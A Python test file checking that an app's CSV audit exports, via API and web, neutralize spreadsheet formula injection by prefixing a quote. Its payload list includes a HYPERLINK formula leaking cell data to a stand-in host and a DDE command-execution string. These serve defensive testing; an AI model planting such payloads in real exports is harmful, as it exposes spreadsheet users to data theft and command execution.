"""CSV exports (API and web) never hand a spreadsheet a formula: OWASP's rule, one writer."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine

from api.csv_export import csv_text, neutralize
from models.clock import FixedClock
from models.enums import Role
from tests.api.conftest import Team, act, annual_body, create_plan, on
from workflow import uow
from workflow.account_admin import set_password

FORMULAS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"คลิก\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
# Through the API and the web: the starts a comment may have (TAB and CR are control
# characters, which free text may refuse).
IN_COMMENTS = FORMULAS[:4]
PASSWORD = "export-password-2562"
CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_like_cell_gets_a_leading_quote(cell: str) -> None:
    assert neutralize(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["แผนการดำเนินงาน", "2562", "", "a=b", " =1", "'=1"])
def test_other_cells_are_unchanged(cell: str) -> None:
    assert neutralize(cell) == cell


def test_every_cell_is_quoted_and_reads_back() -> None:
    text = csv_text(("a", "b"), [["=1+1", 'say "hi", twice']])
    assert text.startswith("\ufeff")
    assert text.lstrip("\ufeff").splitlines() == ['"a","b"', '"\'=1+1","say ""hi"", twice"']
    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[1] == [
        "'=1+1",
        'say "hi", twice',
    ]


def _submitted_with(client: TestClient, team: Team, clock: FixedClock, comments: list[str]) -> None:
    """One plan per comment, each submitted with it (the comment lands in the export)."""
    for n, comment in enumerate(comments):
        year = 2018 + n  # one annual plan a fiscal year
        body = annual_body(year + 544, effective_on=on(clock, date(year, 9, 21)))
        plan_id = create_plan(client, team, body)
        submitted = act(
            client,
            team,
            Role.STAFF,
            plan_id,
            "submit",
            effective_on=on(clock, date(year, 10, 1)),
            comment=comment,
        )
        assert submitted.status_code == 200, submitted.text


def _comments(body: str) -> list[str]:
    """The submit records' comments, from the API's CSV or the web's (Thai headers)."""
    rows = csv.DictReader(io.StringIO(body.lstrip("\ufeff")))
    comment, action = "comment", "action"
    if rows.fieldnames and "comment" not in rows.fieldnames:
        comment, action = "หมายเหตุ (comment)", "รหัสการดำเนินการ (action)"
    return [r[comment] for r in rows if r[action] == "submit"]


def test_api_export_neutralizes_comments(client: TestClient, home: Team, clock: FixedClock) -> None:
    _submitted_with(client, home, clock, IN_COMMENTS)
    exported = client.get(
        "/api/v1/audit/transitions",
        params={"format": "csv"},
        headers=home.headers(Role.AUDITOR),
    )
    assert exported.status_code == 200, exported.text
    assert _comments(exported.text) == ["'" + c for c in IN_COMMENTS]


def test_web_export_neutralizes_comments(
    client: TestClient, home: Team, clock: FixedClock, engine: Engine
) -> None:
    _submitted_with(client, home, clock, IN_COMMENTS)
    auditor = home.office.auditor.username
    uow.run(
        engine, clock, lambda s: set_password(s, clock=clock, username=auditor, password=PASSWORD)
    )
    found = CSRF.search(client.get("/signin").text)
    assert found is not None
    signed_in = client.post(
        "/signin",
        data={"csrf_token": found.group(1), "username": auditor, "password": PASSWORD},
        follow_redirects=False,
    )
    assert signed_in.status_code == 303, signed_in.text
    exported = client.get("/audit/history.csv")
    assert exported.status_code == 200, exported.text
    assert _comments(exported.text) == ["'" + c for c in IN_COMMENTS]
